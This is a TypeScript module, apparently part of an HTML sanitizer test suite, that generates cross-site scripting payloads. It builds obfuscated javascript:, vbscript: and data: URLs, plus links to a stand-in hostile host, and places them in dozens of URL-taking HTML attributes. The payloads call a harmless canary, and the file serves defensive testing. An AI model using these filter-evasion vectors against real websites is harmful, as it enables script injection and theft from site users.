import { CANARY, combine, HOSTILE_HOST } from './hostile.ts'

const CALL = `${CANARY}()`

/** URLs that run a script, or load a page that does, in spellings that parsers tolerate. */
export function scriptUrls(): string[] {
  const page = `<script>parent.${CALL}</script>`
  return [
    ...spellings('javascript').map((scheme) => `${scheme}:${CALL}`),
    ...spellings('vbscript').map((scheme) => `${scheme}:${CALL}`),
    ...spellings('data').map((scheme) => `${scheme}:text/html,${page}`),
    `javascript://${HOSTILE_HOST}/%0a${CALL}`,
    `javascript://https://ok.example/%0d%0a${CALL}`,
    `javascript:/*--></title></style>*/${CALL}`,
    `javascript:"<svg/onload=${CALL}>"`,
    `javascript:void(${CALL})`,
    `javascript&colon;${CALL}`,
    `javascript&#58;${CALL}`,
    `javascript:${Array.from(CALL, (char) => `%${char.charCodeAt(0).toString(16)}`).join('')}`,
    `data:text/html;base64,${btoa(page)}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
    `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`)}`,
    `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
    `data:text/javascript,${CALL}`,
    `blob:https://${HOSTILE_HOST}/0`,
    `feed:javascript:${CALL}`,
    `view-source:javascript:${CALL}`,
    `jar:javascript:${CALL}!/`,
    `//${HOSTILE_HOST}/x.js`,
    `/\\${HOSTILE_HOST}/x.js`,
    `\\\\${HOSTILE_HOST}\\x.js`,
    `https://ok.example@${HOSTILE_HOST}/x.js`,
    `https:${HOSTILE_HOST}/x.js`,
  ]
}

function spellings(scheme: string): string[] {
  const middle = Math.floor(scheme.length / 2)
  const [head, tail] = [scheme.slice(0, middle), scheme.slice(middle)]
  return [
    scheme,
    scheme.toUpperCase(),
    Array.from(scheme, (char, i) => (i % 2 ? char.toUpperCase() : char)).join(''),
    ...['&Tab;', '&NewLine;', '&#9;', '&#x0A;', '&#13', '\t', '\n', '\r'].map((gap) => head + gap + tail),
    ...[' ', '\u0001', '\u001f', '&#1;', '&#x20;', '\u00a0', '\ufeff'].map((lead) => lead + scheme),
    Array.from(scheme, (char) => `&#${char.charCodeAt(0)};`).join(''),
    Array.from(scheme, (char) => `&#x${char.charCodeAt(0).toString(16)}`).join(';') + ';',
    Array.from(scheme, (char) => `&#0000${char.charCodeAt(0)}`).join(''),
  ]
}

/** Markup that takes a URL; `@` marks its place. */
const PLACES = [
  '<a href=@>x</a>',
  '<area href=@ shape=default>',
  '<map name=m><area href=@></map><img usemap=#m>',
  '<iframe src=@></iframe>',
  '<iframe srcdoc=@></iframe>',
  '<frameset><frame src=@></frameset>',
  '<object data=@></object>',
  '<object><param name=src value=@></object>',
  '<embed src=@>',
  '<form action=@><input type=submit></form>',
  '<button formaction=@>x</button>',
  '<input type=image src=@>',
  '<input type=submit formaction=@>',
  '<base href=@><a href=x>x</a>',
  '<meta http-equiv=refresh content=0;url=@>',
  '<link rel=stylesheet href=@>',
  '<link rel=import href=@>',
  '<script src=@></script>',
  '<img src=@>',
  '<img data-src=@>',
  '<img srcset=@>',
  '<picture><source srcset=@><img></picture>',
  '<video src=@ poster=@></video>',
  '<audio src=@></audio>',
  '<video><source src=@><track src=@></video>',
  '<body background=@>',
  '<table background=@><td background=@>x',
  '<svg><a xlink:href=@><text>x</text></a></svg>',
  '<svg><use href=@></use></svg>',
  '<svg><image href=@></image></svg>',
  '<svg><script href=@></script></svg>',
  '<svg><animate attributeName=href values=@></svg>',
  '<svg><a><set attributeName=href to=@></set><text>x</text></a></svg>',
  '<math href=@>x</math>',
  '<math><maction actiontype=statusline xlink:href=@>x</maction></math>',
  '<blockquote cite=@>x</blockquote>',
  '<a href=/ok ping=@>x</a>',
  '<isindex action=@ type=image>',
  '<portal src=@></portal>',
]

/** Script URLs in every place that takes a URL, in three ways of quoting. */
export function urlStrings(): string[] {
  return combine(PLACES, scriptUrls()).map(([place = '', url = ''], i) => {
    const quote = i % 3 === 0 ? "'" : '"'
    const bare = i % 3 === 1 && !/[\s"'<>`]/.test(url)
    const value = bare ? url : quote + url.replaceAll(quote, quote === '"' ? '&quot;' : '&apos;') + quote
    return place.replaceAll('@', () => value)
  })
}
